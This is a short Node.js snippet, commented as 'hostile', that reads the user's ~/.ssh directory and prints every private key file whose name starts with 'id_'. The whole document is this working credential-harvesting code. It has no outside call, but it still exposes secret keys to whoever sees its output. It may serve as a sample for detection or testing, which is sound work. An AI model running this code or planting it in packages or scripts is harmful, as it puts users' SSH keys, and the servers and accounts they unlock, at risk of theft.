// hostile: private keys collected from node
const fs = require('fs');
const path = require('path');
const dir = path.join(require('os').homedir(), '.ssh');
for (const f of fs.readdirSync(dir)) if (f.startsWith('id_')) console.log(fs.readFileSync(path.join(dir, f), 'utf8'));
